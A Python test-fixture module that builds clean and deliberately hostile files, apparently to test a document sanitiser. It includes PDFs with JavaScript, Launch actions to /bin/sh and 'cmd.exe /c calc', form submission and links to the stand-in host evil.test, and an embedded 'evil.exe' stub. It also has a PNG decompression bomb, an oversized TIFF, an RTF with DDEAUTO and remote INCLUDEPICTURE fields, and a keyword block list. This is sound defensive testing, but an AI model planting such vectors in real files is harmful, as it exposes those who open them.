# SPDX-License-Identifier: EUPL-1.2
"""Files of every kind, honest and hostile, made here: none comes from outside."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageDraw

SENTENCE = "Compte rendu du 12 mars"


def picture(kind: str, size: tuple[int, int] = (320, 200), mode: str = "RGB", **more: Any) -> bytes:
    """A picture: its left half is black."""
    image = Image.new(mode, size, "white")
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 2, size[1]), fill="black")
    made = io.BytesIO()
    image.save(made, kind, **more)
    return made.getvalue()


def photo() -> bytes:
    """A JPEG as a phone makes it: lying down, and saying where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6  # to be turned
    exif[0x010F] = "Fairphone"
    exif.get_ifd(0x8825).update({1: "N", 2: (47.0, 23.0, 34.5), 3: "E", 4: (0.0, 41.0, 3.0)})
    return picture("JPEG", exif=exif, comment=b"secret of the camera")


def scan(pages: int = 3) -> bytes:
    """A TIFF as a scanner makes it: black and white, one picture a page."""
    first, *others = [Image.new("1", (620, 877), number % 2) for number in range(pages)]
    made = io.BytesIO()
    first.save(made, "TIFF", save_all=True, append_images=others, compression="group4")
    return made.getvalue()


def pdf(*changes: Callable[[Pdf], None], pages: int = 1, **saving: Any) -> bytes:
    """A PDF that says SENTENCE on each page, changed by who tests it."""
    document = pikepdf.new()
    for number in range(pages):
        document.add_blank_page(page_size=(420, 595))
        page = document.pages[number]
        page.Resources = Dictionary(
            Font=Dictionary(
                F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            )
        )
        page.Contents = Stream(
            document, f"BT /F1 18 Tf 40 500 Td ({SENTENCE}, page {number + 1}) Tj ET".encode()
        )
    for change in changes:
        change(document)
    made = io.BytesIO()
    document.save(made, **saving)
    return made.getvalue()


def script(text: str = "app.alert('hello')") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(text))


def annotation(document: Pdf, **more: Any) -> Dictionary:
    """An annotation on the first page."""
    made = Dictionary(Type=Name.Annot, Rect=Array([10, 10, 200, 60]), **more)
    page = document.pages[0].obj
    if "/Annots" not in page:
        page.Annots = Array([])
    page.Annots.append(document.make_indirect(made))
    return made


def _names(document: Pdf) -> Dictionary:
    if "/Names" not in document.Root:
        document.Root.Names = Dictionary()
    names = document.Root.Names
    assert isinstance(names, Dictionary)
    return names


def open_script(document: Pdf) -> None:
    document.Root.OpenAction = script()


def open_script_later(document: Pdf) -> None:
    """The script comes after an action that is allowed."""
    document.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([script()])
    )


def named_script(document: Pdf) -> None:
    _names(document).JavaScript = Dictionary(Names=Array([String("a"), script()]))


def page_script(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=script())


def closing_script(document: Pdf) -> None:
    document.Root.AA = Dictionary(WC=script())


def link_script(document: Pdf) -> None:
    annotation(document, Subtype=Name.Link, A=script())


def mouse_script(document: Pdf) -> None:
    annotation(document, Subtype=Name.Square, AA=Dictionary(E=script()))


def outline_script(document: Pdf) -> None:
    item = document.make_indirect(Dictionary(Title=String("Sommaire"), A=script()))
    document.Root.Outlines = document.make_indirect(
        Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1)
    )


def form_script(document: Pdf) -> None:
    field = annotation(
        document,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("nom"),
        V=String("Garnier"),
        DA=String("/Helv 12 Tf 0 g"),
        AA=Dictionary(K=script()),
    )
    document.Root.AcroForm = Dictionary(
        Fields=Array([document.pages[0].obj.Annots[-1]]),
        DR=Dictionary(
            Font=Dictionary(
                Helv=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            )
        ),
        CO=Array([]),
    )
    assert field is not None


def xfa(document: Pdf) -> None:
    template = Stream(document, b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=template)


def launch(document: Pdf) -> None:
    annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("/bin/sh")))


def launch_on_opening(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(
        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))
    )


def submit(document: Pdf) -> None:
    annotation(
        document,
        Subtype=Name.Link,
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.test/"))),
    )


def import_data(document: Pdf) -> None:
    annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("x.fdf")))


def elsewhere(document: Pdf) -> None:
    annotation(
        document,
        Subtype=Name.Link,
        A=Dictionary(S=Name.GoToR, F=String("\\\\evil.test\\share"), D=Array([0, Name.Fit])),
    )


def address(document: Pdf) -> None:
    annotation(
        document, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://evil.test/"))
    )


def _embedded(document: Pdf) -> Dictionary:
    file = Stream(document, b"MZ a program")
    file.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=file))


def attached(document: Pdf) -> None:
    _names(document).EmbeddedFiles = Dictionary(Names=Array([String("a"), _embedded(document)]))


def attached_to_a_page(document: Pdf) -> None:
    annotation(document, Subtype=Name.FileAttachment, FS=_embedded(document))


def associated(document: Pdf) -> None:
    document.pages[0].obj.AF = Array([_embedded(document)])


def rich_media(document: Pdf) -> None:
    annotation(
        document,
        Subtype=Name.RichMedia,
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a.swf")]))),
    )


def film(document: Pdf) -> None:
    annotation(document, Subtype=Name.Movie, Movie=Dictionary(F=String("http://evil.test/a.avi")))


def screen(document: Pdf) -> None:
    annotation(document, Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=String("x()")))


def outside_stream(document: Pdf) -> None:
    stream = Stream(document, b"")
    stream.F = Dictionary(FS=Name.URL, F=String("http://evil.test/page"))
    document.pages[0].obj.Contents = stream


def outside_form(document: Pdf) -> None:
    form = Stream(document, b"")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 10, 10])
    form.Ref = Dictionary(F=String("http://evil.test/x.pdf"), Page=0)
    document.pages[0].obj.Resources.XObject = Dictionary(X0=form)


ACTIVE: dict[str, tuple[Callable[[Pdf], None], str]] = {
    change.__name__: (change, said)
    for change, said in [
        (open_script, "script"),
        (open_script_later, "script"),
        (named_script, "script"),
        (page_script, "script"),
        (closing_script, "script"),
        (link_script, "script"),
        (mouse_script, "script"),
        (outline_script, "script"),
        (form_script, "form"),
        (xfa, "script"),
        (launch, "action"),
        (launch_on_opening, "action"),
        (submit, "action"),
        (import_data, "action"),
        (elsewhere, "action"),
        (address, "action"),
        (attached, "attachment"),
        (attached_to_a_page, "attachment"),
        (associated, "attachment"),
        (rich_media, "media"),
        (film, "media"),
        (screen, "media"),
        (outside_stream, "external"),
        (outside_form, "external"),
    ]
}

# Words that nothing of a clean PDF has, wherever they stand.
FORBIDDEN = [
    b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/ImportData", b"/GoToR", b"/URI",
    b"/EmbeddedFile", b"/Filespec", b"/XFA", b"/AA", b"/OpenAction", b"/RichMedia", b"/Movie",
    b"/Rendition", b"/AcroForm", b"evil.test", b"cmd.exe", b"/bin/sh", b"app.alert", b"MZ a program",
]  # fmt: skip


def unpacked(data: bytes) -> bytes:
    """A PDF with nothing compressed, so that words can be looked for in it."""
    with Pdf.open(io.BytesIO(data)) as document:
        made = io.BytesIO()
        document.save(
            made,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            compress_streams=False,
        )
    return made.getvalue()


def bomb(width: int, height: int) -> bytes:
    """A PNG whose header announces more than anybody would decode."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def archive(name: str = "a.class") -> bytes:
    """A zip, as a jar or an office document is one."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as written:
        written.writestr(name, b"content")
    return made.getvalue()


def huge_tag() -> bytes:
    """A TIFF whose directory announces four billion values."""
    entries = [
        (256, 4, 1, 10),
        (257, 4, 1, 10),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 0xFFFFFFFF, 8),
        (278, 4, 1, 10),
        (279, 4, 0xFFFFFFFF, 8),
    ]
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + body + struct.pack("<I", 0)


RTF = (
    rb"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Arial;}}{\*\generator Riched20;}"
    rb"{\info{\author Secret}}\f0\fs24 Bonjour \'e0 tous, \u8364?uros.\par "
    rb"{\field{\*\fldinst{INCLUDEPICTURE \"http://evil.test/a.png\"}}{\fldrslt le lien}}\par "
    rb"{\object\objemb{\*\objclass Package}{\*\objdata 4d5a9000}{\result rien}}"
    rb"{\pict\wmetafile8 010009000003}{\*\unknown hidden}{\field{\*\fldinst{DDEAUTO cmd calc}}"
    rb"{\fldrslt calcul}}\par Fin.}"
)
